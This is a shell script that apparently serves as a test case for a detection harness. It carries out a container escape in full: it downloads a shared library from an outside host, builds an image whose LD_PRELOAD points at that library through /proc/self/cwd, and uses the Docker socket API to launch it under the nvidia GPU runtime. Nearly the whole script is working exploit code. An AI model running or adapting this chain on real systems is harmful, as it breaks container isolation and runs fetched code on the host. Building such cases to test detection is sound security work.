#!/bin/sh
. /opt/case/case.sh

mkdir /tmp/c && cd /tmp/c
printf 'FROM busybox\nENV LD_PRELOAD=./proc/self/cwd/poc.so\nENV NVIDIA_VISIBLE_DEVICES=all\nADD poc.so /\n' >Dockerfile
curl -s -o poc.so http://203.0.113.10/programs/preload.so
tar -c . | curl -sf --unix-socket /run/docker.sock -X POST -H 'Content-Type: application/x-tar' --data-binary @- 'http://x/build?t=cuda-check' >/dev/null
curl -sf --unix-socket /run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"cuda-check","HostConfig":{"Runtime":"nvidia","DeviceRequests":[{"Count":-1,"Capabilities":[["gpu"]]}]}}' http://x/containers/create >/dev/null
curl -sf --unix-socket /run/docker.sock -X POST http://x/containers/0123456789ab/start >/dev/null
took_place
